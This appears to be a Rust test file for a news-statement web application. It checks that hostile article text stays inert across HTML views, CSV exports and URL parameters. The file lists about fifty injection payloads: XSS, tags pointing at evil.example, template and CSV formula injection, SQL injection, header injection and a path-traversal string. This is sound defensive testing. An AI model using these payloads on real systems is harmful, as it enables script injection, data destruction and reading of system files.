//! Article text that carries scripts, handlers, links that run, template syntax, formulas or SQL stays text: in every
//! view, in every export, and as a parameter of every address.

use axum::http::{Method, StatusCode};
use dom_query::Document;
use jiff::civil::date;
use types::{
    Act, Actor, ActorKind, Basis, Event, Factuality, Participant, Party, Polarity, Position, Published,
    PublishedBasis, Question, Record, Span, Speaker, SpeakerKind, Stance, Statement, StatementKind, When,
};

use super::site::{Setup, Site, TOKEN, read, request};
use crate::serve::asked::escaped;
use crate::serve::endpoints::ENDPOINTS;
use crate::serve::token::Token;

/// What articles of an enemy say. Each begins with a word, so that it can be searched for.
pub const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</title><script>alert(2)</script>",
    "</style><script>alert(3)</script>",
    "</textarea><script>alert(4)</script>",
    "--><script>alert(5)</script><!--",
    "]]><script>alert(6)</script>",
    "\"><script>alert(7)</script>",
    "'><img src=x onerror=alert(8)>",
    "<img src=x onerror=alert(9)>",
    "<svg onload=alert(10)>",
    "<svg><script>alert(11)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(12)>",
    "<body onload=alert(13)>",
    "<iframe src=\"javascript:alert(14)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(15)</script>\">",
    "<object data=\"data:text/html,<script>alert(16)</script>\">",
    "<a href=\"javascript:alert(17)\">press</a>",
    "<form action=\"https://evil.example/\"><input name=token>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<style>*{display:none}</style>",
    "\" onmouseover=\"alert(24)",
    "' onfocus='alert(25)' autofocus='",
    "x\" style=\"background:url(https://evil.example/)",
    "javascript:alert(27)",
    "JaVaScRiPt:alert(28)",
    "data:text/html,<script>alert(29)</script>",
    "vbscript:msgbox(30)",
    "{{constructor.constructor('alert(31)')()}}",
    "${alert(32)}",
    "<%= system('id') %>",
    "{% import os %}{{ os }}",
    "#{7*7} *{7*7} @{7*7}",
    "=HYPERLINK(\"https://evil.example\",\"press\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'; DROP TABLE documents; --",
    "' OR '1'='1",
    "1; DELETE FROM statements WHERE 1=1",
    "\") UNION SELECT text FROM documents --",
    "statement_search MATCH 'a' OR NEAR(b c)",
    "&lt;script&gt;alert(47)&lt;/script&gt;",
    "&#60;script&#62;alert(48)",
    "\u{202E}<script>alert(49)</script>",
    "%3Cscript%3Ealert(50)%3C/script%3E",
    "\r\nSet-Cookie: onrecord=evil\r\n\r\n<script>alert(51)</script>",
    "../../../../etc/passwd",
];

/// The id of a question: a user's own words, but they may be copied from anywhere.
const QUESTION: &str = "<b>q</b> ' OR 1=1";

/// A record in which everything that an article can say is hostile.
fn hostile(number: usize, words: &str) -> Record {
    let text = format!("Ada Quill {words} said: quay {words}\n\nA second paragraph, {words}.");
    let mut record = read(&format!("doc {number} {words}"), words, "2024-05-27", "", "Nothing.");
    let find = |part: &str| {
        let start = text.find(part).unwrap();
        Span::new(start, start + part.len())
    };
    let (source, cue) = (find(&format!("Ada Quill {words}")), find("said"));
    let content = find(&format!("quay {words}"));
    record.document.title = Some(format!("Title {words}"));
    record.document.url = Some(words.to_owned());
    record.document.outlet = Some(format!("{words} Outlet"));
    record.document.byline = vec![words.to_owned()];
    record.document.section = Some(words.to_owned());
    record.document.language = Some(words.to_owned());
    record.document.published =
        Some(Published { date: date(2024, 5, 27), value: words.to_owned(), basis: PublishedBasis::Given });
    record.document.text = text.clone();
    record.notes = vec![words.to_owned()];
    record.actors = vec![Actor {
        id: "a1".to_owned(),
        name: format!("Ada Quill {words}"),
        kind: ActorKind::Person,
        roles: vec![words.to_owned()],
        mentions: vec![source],
        government_of: None,
        ties: Vec::new(),
    }];
    let party = Some(Party { name: words.to_owned(), span: None });
    record.statements = vec![Statement {
        id: "s1".to_owned(),
        kind: StatementKind::Direct,
        content: vec![content],
        source: vec![source],
        cue: vec![cue],
        act: Act::Say,
        polarity: Polarity::Asserted,
        speaker: Speaker {
            actor: Some("a1".to_owned()),
            name: Some(format!("Ada Quill {words}")),
            role: Some(words.to_owned()),
            kind: SpeakerKind::Named,
            reason: None,
        },
        addressee: party.clone(),
        medium: party,
        said: None,
        nested_in: None,
        confidence: 0.9,
    }];
    (record.times, record.places, record.quantities) = (Vec::new(), Vec::new(), Vec::new());
    let party =
        |span| Some(Participant { name: format!("Ada Quill {words}"), span, actor: Some("a1".to_owned()) });
    record.events = vec![Event {
        kind: "ASSAULT".to_owned(),
        mode: Some(words.to_owned()),
        actor: party(Some(source)),
        recipient: party(None),
        place: Some(Party { name: words.to_owned(), span: None }),
        when: Some(When { value: words.to_owned(), earliest: None, latest: None }),
        killed: None,
        wounded: None,
        size: None,
        evidence: content,
        mentions: Vec::new(),
        factuality: Factuality::Alleged,
        statement: Some("s1".to_owned()),
    }];
    let stance = if number.is_multiple_of(2) { Stance::Favor } else { Stance::Against };
    record.positions = vec![Position {
        question: QUESTION.to_owned(),
        actor: Some("a1".to_owned()),
        name: Some(format!("Ada Quill {words}")),
        stance,
        statement: "s1".to_owned(),
        date: None,
        former: false,
        basis: Basis::Stated,
        confidence: 0.9,
    }];
    record
}

/// Elements that our pages are made of.
const ELEMENTS: &[&str] = &[
    "html",
    "head",
    "meta",
    "title",
    "link",
    "script",
    "body",
    "a",
    "header",
    "div",
    "form",
    "input",
    "button",
    "nav",
    "main",
    "footer",
    "p",
    "h1",
    "h2",
    "h3",
    "section",
    "article",
    "aside",
    "span",
    "blockquote",
    "time",
    "ul",
    "ol",
    "li",
    "label",
    "select",
    "option",
    "details",
    "summary",
    "svg",
    "path",
    "rect",
    "circle",
    "figure",
    "figcaption",
    "code",
    "kbd",
    "b",
    "del",
    "ins",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "line",
    "text",
    "em",
];

/// Attributes that our pages have.
const ATTRIBUTES: &[&str] = &[
    "accesskey",
    "action",
    "aria-current",
    "aria-hidden",
    "aria-label",
    "autocomplete",
    "charset",
    "class",
    "content",
    "cx",
    "cy",
    "d",
    "data-s",
    "datetime",
    "defer",
    "height",
    "href",
    "id",
    "inputmode",
    "lang",
    "maxlength",
    "method",
    "name",
    "open",
    "placeholder",
    "preserveAspectRatio",
    "r",
    "rel",
    "required",
    "role",
    "selected",
    "src",
    "stroke-width",
    "title",
    "type",
    "value",
    "viewBox",
    "width",
    "x",
    "y",
    "data-f",
    "data-note",
    "hidden",
    "overflow",
    "scope",
    "tabindex",
    "text-anchor",
    "x1",
    "x2",
    "y1",
    "y2",
];

/// Proves that a page has nothing but what we put there, whatever stands in its text.
fn check_page(page: &str, place: &str) {
    let document = Document::from(page);
    let mut scripts = 0;
    for element in document.select("*").iter() {
        let Some(node) = element.nodes().first() else { continue };
        let name = node.node_name().unwrap_or_default().to_string();
        assert!(ELEMENTS.contains(&name.as_str()), "{place}: <{name}>");
        for attribute in node.attrs() {
            let (key, value) = (attribute.name.local.to_string(), attribute.value.to_string());
            assert!(ATTRIBUTES.contains(&key.as_str()), "{place}: <{name} {key}=…>");
            if matches!(key.as_str(), "href" | "src" | "action") {
                let safe = (value.starts_with('/') && !value.starts_with("//")) || value.starts_with('#');
                assert!(safe, "{place}: {key}={value}");
                assert!(value.bytes().all(|byte| byte.is_ascii_graphic()), "{place}: {key}={value}");
            }
        }
        if name == "script" {
            scripts += 1;
            assert_eq!(
                (element.attr("src").as_deref(), &*element.text()),
                (Some("/script.js"), ""),
                "{place}"
            );
        }
    }
    assert_eq!(scripts, 1, "{place}");
}

/// The words as a reader of HTML gives them back: line ends and no white space around.
fn as_text(words: &str) -> String {
    words.replace("\r\n", "\n").trim().to_owned()
}

fn site() -> Site {
    let records: Vec<Record> =
        HOSTILE.iter().enumerate().map(|(number, words)| hostile(number, words)).collect();
    let site = Site::new(&records, Setup { token: true, ..Setup::default() });
    let ask = HOSTILE.join(" ");
    let question =
        Question { id: QUESTION.to_owned(), ask: ask.clone(), favor: vec![ask], ..Question::default() };
    site.store().add_questions(&[question]).unwrap();
    site
}

#[test]
fn there_are_enough_of_them() {
    assert!(HOSTILE.len() >= 40, "{}", HOSTILE.len());
}

#[test]
fn every_view_shows_text_as_text() {
    let site = site();
    let cookie = format!("onrecord={}", Token::new(TOKEN).cookie());
    let signed_in = |path: &str| {
        let reply = site.ask(request(Method::GET, path, &[("cookie", &cookie)], ""));
        assert_eq!(reply.status, StatusCode::OK, "{path}: {}", reply.body);
        check_page(&reply.body, path);
        reply.body
    };
    // All of them on the pages that list.
    for path in [
        "/",
        "/search?limit=200",
        "/documents?limit=200",
        "/people?limit=200",
        "/places",
        "/places?type=*",
        "/questions",
        "/events?limit=200",
        "/timeline",
        "/outlets",
        "/wordings",
        "/corrections",
        "/sign-in",
    ] {
        signed_in(path);
    }
    let list = Document::from(signed_in("/search?limit=200")).text().to_string();
    let happened = Document::from(signed_in("/events?limit=200")).text().to_string();
    let question = signed_in(&format!("/questions/{}", escaped(QUESTION)));
    let stands = Document::from(question.as_str()).text().to_string();
    assert_eq!(Document::from(question).select(".strip a").length(), HOSTILE.len());
    signed_in(&format!("/timeline?question={}", escaped(QUESTION)));
    let actors = site.store().find_actors("Ada Quill", 200).unwrap();
    assert!(!actors.is_empty());
    for actor in &actors {
        let page = signed_in(&format!("/people/{}", escaped(&actor.id)));
        assert!(page.contains("Ada Quill"));
        signed_in(&format!("/timeline?actor={}", escaped(&actor.id)));
    }
    for (number, words) in HOSTILE.iter().enumerate() {
        let shown = as_text(words);
        assert!(list.contains(&shown), "{words}: not in the list");
        assert!(happened.contains(&shown), "{words}: not in the events");
        assert!(stands.contains(&shown), "{words}: not in the question");
        let id = escaped(&hostile(number, words).document.id);
        let page = signed_in(&format!("/documents/{id}"));
        let text = Document::from(page).text().to_string();
        assert!(text.contains(&shown), "{words}: not in the article");
        signed_in(&format!("/documents/{id}/changes"));
        let outlet = escaped(&format!("{words} Outlet"));
        signed_in(&format!("/outlets?a={outlet}&b={outlet}"));
        signed_in(&format!("/search?outlet={outlet}"));
    }
}

#[test]
fn every_export_is_data() {
    let site = site();
    let statements = site.good("/api/statements?limit=1000").json();
    let documents = site.good("/api/documents?limit=1000").json();
    for (number, words) in HOSTILE.iter().enumerate() {
        let content = format!("quay {words}");
        let items = statements["items"].as_array().unwrap();
        assert!(items.iter().any(|item| item["content_text"] == content.as_str()), "{words}");
        let title = format!("Title {words}");
        assert!(
            documents["items"].as_array().unwrap().iter().any(|item| item["title"] == title.as_str()),
            "{words}"
        );
        let id = escaped(&hostile(number, words).document.id);
        assert_eq!(site.good(&format!("/api/documents/{id}")).json()["document"]["url"], *words);
        let annotations = site.good(&format!("/api/documents/{id}/annotations")).json();
        assert_eq!(annotations["items"][0]["target"][0]["selector"][0]["exact"], content.as_str());
    }
    for list in ENDPOINTS.iter().filter(|endpoint| endpoint.api.is_some_and(|api| api.list)) {
        // Of a timeline one has to say what of.
        let of = if list.path == "/api/timeline" { "question" } else { "after" };
        let of = format!("{of}={}", if of == "after" { String::new() } else { escaped(QUESTION) });
        let path = list.path.replace("{id}", &escaped(QUESTION));
        let reply = site.good(&format!("{path}?format=csv&limit=1000&{of}"));
        assert_eq!(reply.header("content-type"), "text/csv; charset=utf-8");
        assert!(reply.header("content-disposition").starts_with("attachment; "), "{}", list.path);
        for row in csv::Reader::from_reader(reply.body.as_bytes()).records() {
            for cell in &row.unwrap() {
                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{}: {cell}", list.path);
            }
        }
    }
}

#[test]
fn every_parameter_is_only_a_value() {
    let site = site();
    let before = site.store().sizes().unwrap();
    for (number, words) in HOSTILE.iter().enumerate() {
        let value = escaped(words);
        for endpoint in ENDPOINTS.iter().filter(|endpoint| endpoint.method() == Method::GET) {
            let path = endpoint.path.replace("{id}", &value);
            let mut addresses = vec![path.clone()];
            let names: &[&str] = match endpoint.api {
                Some(api) => api.query,
                None => &[
                    "q", "about", "actor", "outlet", "kind", "from", "order", "country", "after", "a",
                    "type", "where",
                ],
            };
            // Each address gets all of them, each parameter every fourth.
            let some = names.iter().enumerate().filter(|(place, _)| (place + number) % 4 == 0);
            addresses.extend(some.map(|(_, name)| format!("{path}?{name}={value}")));
            for address in addresses {
                let reply = site.get(&address);
                assert!(reply.status.as_u16() < 500, "{address}: {}", reply.body);
                if reply.header("content-type").starts_with("text/html") {
                    check_page(&reply.body, &address);
                }
                assert!(!reply.headers.contains_key("set-cookie"), "{address}");
            }
        }
    }
    assert_eq!(site.store().sizes().unwrap(), before, "nothing was changed");
}
